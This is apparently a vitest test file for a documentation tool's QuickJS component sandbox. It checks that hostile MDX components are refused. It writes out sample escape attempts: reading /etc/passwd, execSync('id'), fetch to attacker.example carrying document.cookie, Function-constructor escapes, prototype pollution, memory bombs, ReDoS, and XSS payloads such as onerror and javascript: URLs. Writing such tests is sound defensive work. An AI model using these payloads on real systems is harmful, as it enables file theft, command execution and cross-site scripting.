/**
 * Issue 26, item 4: components with logic run at build time, in a QuickJS sandbox (src/sandbox/), never in Quire's
 * process. Each case is an author's component trying to get out: read a file, import a module, reach the network,
 * the environment or the host's globals, make code from strings, pollute prototypes through the tree it returns,
 * hang, exhaust memory or the stack, flood the output, or smuggle script into the page. Each is refused with a
 * diagnostic naming the component, the page still renders (its other content and the component's children), and
 * nothing of the host leaks into the HTML.
 */
import { afterAll, describe, expect, it } from 'vitest';
import type { Diagnostic } from '../../src/diagnostics.js';
import { type LinkContext, renderMarkdown } from '../../src/markdown/index.js';
import { closeSandbox } from '../../src/sandbox/sandbox.js';

afterAll(() => closeSandbox());

const context: LinkContext = { base: '/', urlByPath: { 'page.mdx': '/page/' }, assets: {} };

/** Render a page that defines `Evil` as `body` (a component's source) and uses it with children. */
function attempt(body: string, extra: Record<string, string> = {}) {
  const snippets = { 'snippets/evil.jsx': body, ...extra };
  const raw =
    'import { Evil } from "/snippets/evil.jsx"\n\n# Page\n\nBefore.\n\n<Evil>Kept children.</Evil>\n\nAfter.\n';
  const rendered = renderMarkdown({ path: 'page.mdx', raw, snippets }, context);
  // The page is rendered whatever the component did.
  expect(rendered.html).toContain('Before.');
  expect(rendered.html).toContain('After.');
  expect(rendered.html).not.toMatch(/<script|onerror|onclick|javascript:|\/home\/|HOME=|PATH=/i);
  return rendered;
}

function rules(diagnostics: Diagnostic[]): string[] {
  return diagnostics.map((d) => `${d.rule} ${d.message}`);
}

/** The component failed at its own file and line, with `pattern` in the message, and its children are shown. */
function refused(body: string, rule: string, pattern: RegExp, extra?: Record<string, string>) {
  const { html, diagnostics } = attempt(body, extra);
  expect(html).toContain('Kept children.');
  const found = diagnostics.find((d) => d.rule === rule);
  expect(found, rules(diagnostics).join('\n')).toBeDefined();
  expect(found?.message).toMatch(pattern);
  expect(found?.severity).toBe('warning');
  return found;
}

describe('a component cannot reach outside the sandbox', () => {
  it('cannot require a Node module to read a file', () => {
    const found = refused(
      "export const Evil = () => {\n  const fs = require('fs');\n  return <p>{fs.readFileSync('/etc/passwd', 'utf8')}</p>;\n};\n",
      'mdx/component-error',
      /cannot import "fs"/,
    );
    expect(found?.file).toBe('snippets/evil.jsx');
    expect(found?.position?.line).toBe(2);
  });

  it('cannot import a Node module statically', () => {
    refused(
      "import { readFileSync } from 'node:fs';\nexport const Evil = () => <p>{readFileSync('/etc/passwd', 'utf8')}</p>;\n",
      'mdx/component-error',
      /cannot import "node:fs"/,
    );
  });

  it('cannot import a module dynamically', () => {
    refused(
      "export const Evil = () => import('node:child_process');\n",
      'mdx/component-error',
      /not valid as a React child/,
    );
  });

  it('cannot read a file through a relative import outside the snippets', () => {
    refused(
      "import secret from '../../../etc/passwd';\nexport const Evil = () => <p>{secret}</p>;\n",
      'mdx/component-error',
      /cannot import "\.\.\/\.\.\/\.\.\/etc\/passwd"/,
    );
  });

  it('has no `process` (environment, exit)', () => {
    refused(
      'export const Evil = () => <p>{process.env.HOME}</p>;\n',
      'mdx/component-error',
      /'process' is not defined/,
    );
  });

  it('has no `fetch`', () => {
    refused(
      "export const Evil = () => { fetch('https://attacker.example/?' + document.cookie); return null; };\n",
      'mdx/component-error',
      /'fetch' is not defined/,
    );
  });

  it('has no XMLHttpRequest or WebSocket', () => {
    refused(
      "export const Evil = () => { new WebSocket('wss://attacker.example'); return <p>x</p>; };\n",
      'mdx/component-error',
      /'WebSocket' is not defined/,
    );
    refused(
      "export const Evil = () => { const x = new XMLHttpRequest(); x.open('GET', 'https://attacker.example'); return <p>x</p>; };\n",
      'mdx/component-error',
      /'XMLHttpRequest' is not defined/,
    );
  });

  it('has no navigator.sendBeacon, importScripts or WebAssembly (other ways out to the network or native code)', () => {
    refused(
      "export const Evil = () => { navigator.sendBeacon('https://attacker.example', 'x'); return <p>x</p>; };\n",
      'mdx/component-error',
      /'navigator' is not defined/,
    );
    refused(
      "export const Evil = () => { importScripts('https://attacker.example/x.js'); return <p>x</p>; };\n",
      'mdx/component-error',
      /'importScripts' is not defined/,
    );
    refused(
      'export const Evil = () => { new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); return <p>x</p>; };\n',
      'mdx/component-error',
      /'WebAssembly' is not defined/,
    );
  });

  it('cannot require child_process to run a command', () => {
    refused(
      "export const Evil = () => { require('child_process').execSync('id'); return <p>x</p>; };\n",
      'mdx/component-error',
      /cannot import "child_process"/,
    );
  });

  it('has no QuickJS `std`/`os` modules (files, exec)', () => {
    refused(
      "export const Evil = () => <p>{std.loadFile('/etc/passwd')}{os.exec(['id'])}</p>;\n",
      'mdx/component-error',
      /'std' is not defined/,
    );
  });

  it("finds only the sandbox's own global through `globalThis` tricks", () => {
    refused(
      'export const Evil = () => <p>{globalThis.process.mainModule.require("fs").readFileSync("/etc/passwd")}</p>;\n',
      'mdx/component-error',
      /cannot read property 'mainModule' of undefined/,
    );
  });

  it("cannot make code from strings: `constructor.constructor('return this')()`", () => {
    refused(
      "export const Evil = () => { const g = ({}).constructor.constructor('return this')(); return <p>{g.process.env.PATH}</p>; };\n",
      'mdx/component-error',
      /EvalError: code made from strings/,
    );
  });

  it('cannot call `eval` or `Function`', () => {
    refused("export const Evil = () => <p>{eval('1 + 1')}</p>;\n", 'mdx/component-error', /EvalError/);
    refused("export const Evil = () => <p>{Function('return 1')()}</p>;\n", 'mdx/component-error', /EvalError/);
  });

  it("cannot reach the Function constructor through an async or generator function's prototype", () => {
    refused(
      "export const Evil = () => { const F = Object.getPrototypeOf(async function () {}).constructor; F('return this'); return null; };\n",
      'mdx/component-error',
      /EvalError/,
    );
  });
});

describe('a component cannot exhaust the build', () => {
  it('an endless loop is interrupted', () => {
    refused('export const Evil = () => { for (;;) {} };\n', 'mdx/component-limit', /took too long/);
  });

  it('an endless loop at the top of the module is interrupted too', () => {
    refused(
      'export const ready = (() => { while (true) {} })();\nexport const Evil = () => {\n  if (ready) return null;\n  return <p>never</p>;\n};\n',
      'mdx/component-limit',
      /took too long/,
    );
  });

  it('a memory bomb is stopped at the memory cap', () => {
    refused(
      "export const Evil = () => { const a = []; for (;;) a.push('x'.repeat(1 << 20) + a.length); };\n",
      'mdx/component-limit',
      /used too much memory/,
    );
  });

  it('many 1 MB buffers, each under any per-allocation check, are stopped at the memory cap (64 MB, not 200)', () => {
    // QuickJS's own limit let these through (it counts allocations, not bytes, in this build): 200 MB allocated.
    refused(
      'export const Evil = () => { const a = []; for (let i = 0; i < 200; i++) a.push(new ArrayBuffer(1 << 20)); return <p>{a.length}</p>; };\n',
      'mdx/component-limit',
      /used too much memory/,
    );
  });

  it('one huge string or buffer is stopped at the memory cap', () => {
    refused(
      "export const Evil = () => <p>{'x'.repeat(2 ** 29).length}</p>;\n",
      'mdx/component-limit',
      /used too much memory/,
    );
    refused(
      'export const Evil = () => <p>{new ArrayBuffer(2 ** 30).byteLength}</p>;\n',
      'mdx/component-limit',
      /used too much memory/,
    );
  });

  it('a catastrophic regular expression (ReDoS) is interrupted', () => {
    refused(
      "export const Evil = () => <p>{String(/^(a+)+$/.test('a'.repeat(34) + 'b'))}</p>;\n",
      'mdx/component-limit',
      /took too long/,
    );
  });

  it('a Proxy whose traps never return, spread into props, is interrupted', () => {
    refused(
      'export const Evil = () => { const p = new Proxy({}, { get() { for (;;) {} }, ownKeys() { for (;;) {} } }); return <div {...p}>x</div>; };\n',
      'mdx/component-limit',
      /took too long/,
    );
  });

  it('deep recursion is stopped', () => {
    refused(
      'export const down = (n) => down(n + 1) + 1;\nexport const Evil = () => <p>{down(0)}</p>;\n',
      'mdx/component-limit',
      /recursed too deep/,
    );
  });

  it('a component that renders itself forever is stopped', () => {
    refused(
      'export const Evil = (props) => {\n  if (props.stop) return null;\n  return <div><Evil {...props} /></div>;\n};\n',
      'mdx/component-limit',
      /rendered too much|recursed too deep/,
    );
  });

  it('a huge output is stopped', () => {
    refused(
      'export const Evil = () => <div>{Array.from({ length: 25000 }, (_, i) => <p key={i}>{i}</p>)}</div>;\n',
      'mdx/component-limit',
      /rendered too much/,
    );
  });

  it('the sandbox still works for the next page after a cap', () => {
    refused('export const Evil = () => { for (;;) {} };\n', 'mdx/component-limit', /took too long/);
    const { html, diagnostics } = attempt(
      'export const Evil = () => <p>{[1, 2, 3].map((n) => n * 2).join(",")}</p>;\n',
    );
    expect(rules(diagnostics)).toEqual([]);
    expect(html).toContain('<p>2,4,6</p>');
  });
});

/** A component body that only the sandbox renders (an `if` statement), returning `jsx`. */
function logic(jsx: string): string {
  return `export const Evil = () => {\n  if (globalThis.never) return null;\n  return ${jsx};\n};\n`;
}

describe('what a component returns is untrusted data', () => {
  it('cannot pollute the prototypes of the host through the tree', () => {
    const { diagnostics } = attempt(
      'export const Evil = () => { const p = JSON.parse(\'{"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}}\'); return <div {...p}>x</div>; };\n',
    );
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty('polluted');
    expect(rules(diagnostics).join('\n')).toMatch(/mdx\/unsafe-output .*(`__proto__`|`constructor`)/);
  });

  it("cannot leave a poisoned built-in (Array.prototype, Object.prototype) for the next page's components", () => {
    const poisoned = attempt(
      "Array.prototype.join = function () { return 'POISONED'; };\nObject.prototype.polluted = 'yes';\nexport const Evil = () => <p>{[1, 2].join('+')}</p>;\n",
    );
    expect(poisoned.html).toContain('POISONED');
    const next = attempt(logic("<p>{[1, 2].join('+')}/{String(({}).polluted)}</p>"));
    expect(next.html).toContain('<p>1+2/undefined</p>');
    expect(Array.prototype.join.call([1, 2], '+')).toBe('1+2');
  });

  it('a <script> element is dropped, with its text', () => {
    const { html, diagnostics } = attempt(logic('<div><script>{"alert(1)"}</script>ok</div>'));
    expect(html).not.toContain('alert(1)');
    expect(rules(diagnostics).join('\n')).toMatch(/mdx\/unsafe-output .*<script>/);
  });

  it("an <iframe>'s srcdoc, and a javascript: or data: source, are dropped (the frame itself is an embed)", () => {
    const { html, diagnostics } = attempt(
      logic(
        '<div><iframe srcDoc="<script>alert(1)</script>" /><iframe src="javascript:alert(1)" /><iframe src="data:text/html,<script>alert(1)</script>" /></div>',
      ),
    );
    expect(html).not.toContain('alert(1)');
    const all = rules(diagnostics).join('\n');
    expect(all).toMatch(/mdx\/unsafe-output .*`srcDoc`/);
    expect(all).toMatch(/a javascript: URL in `src`/);
    expect(all).toMatch(/a data: URL in `src`/);
  });

  it('an <object> or <embed> is dropped', () => {
    const { html, diagnostics } = attempt(
      logic('<div><object data="https://attacker.example/x.swf" /><embed src="x.swf" /></div>'),
    );
    expect(html).not.toMatch(/<object|<embed/);
    expect(rules(diagnostics).join('\n')).toMatch(/mdx\/unsafe-output .*<embed>, <object>/);
  });

  it('a javascript: URL is dropped, however it is written', () => {
    const { html, diagnostics } = attempt(logic('<a href={" JaVa\\tScRiPt:alert(document.domain)"}>click</a>'));
    expect(html).toContain('click');
    expect(rules(diagnostics).join('\n')).toMatch(/mdx\/unsafe-output .*a javascript: URL in `href`/);
  });

  it('event handler attributes written as text are dropped', () => {
    const { html, diagnostics } = attempt(logic('<img src="x.png" onError="alert(1)" alt="" />'));
    expect(html).not.toContain('alert(1)');
    expect(rules(diagnostics).join('\n')).toMatch(/mdx\/unsafe-output .*the event handler `onError`/);
  });

  it('dangerouslySetInnerHTML is dropped', () => {
    const { html, diagnostics } = attempt(
      logic("<div dangerouslySetInnerHTML={{ __html: '<img src=x onerror=alert(1)>' }} />"),
    );
    expect(html).not.toContain('onerror');
    expect(rules(diagnostics).join('\n')).toMatch(/mdx\/unsafe-output .*`dangerouslySetInnerHTML`/);
  });

  it('element and attribute names that would break out of the tag are dropped', () => {
    const { html, diagnostics } = attempt(
      "export const Evil = () => <div>{React.createElement('img src=x onerror=alert(1)')}<span {...{ 'x onmouseover=alert(1)': '1' }}>ok</span></div>;\n",
    );
    expect(html).toContain('ok');
    const all = rules(diagnostics).join('\n');
    expect(all).toMatch(/an element named "img src=x onerror=alert\(1\)"/);
    expect(all).toMatch(/an attribute named "x onmouseover=alert\(1\)"/);
  });

  it('a sandbox that lies about its output (a replaced JSON.stringify) still gets only allowed markup in', () => {
    const { html, diagnostics } = attempt(
      'export const Evil = () => { JSON.stringify = () => \'{"tree":[{"n":"script","a":{},"c":["alert(1)"]},{"n":"a","a":{"href":"javascript:alert(1)"},"c":["x"]}],"handlers":[]}\'; return null; };\n',
    );
    expect(html).not.toContain('alert(1)');
    expect(rules(diagnostics).join('\n')).toMatch(/<script>/);
  });

  it('has no clock and no randomness that differ between builds', () => {
    const body =
      'export const Evil = () => <p>{String(Date.now())}/{new Date().toISOString()}/{Math.random().toFixed(6)}</p>;\n';
    const first = attempt(body).html;
    const second = attempt(body).html;
    expect(first).toBe(second);
    expect(first).toContain('<p>0/1970-01-01T00:00:00.000Z/');
  });
});
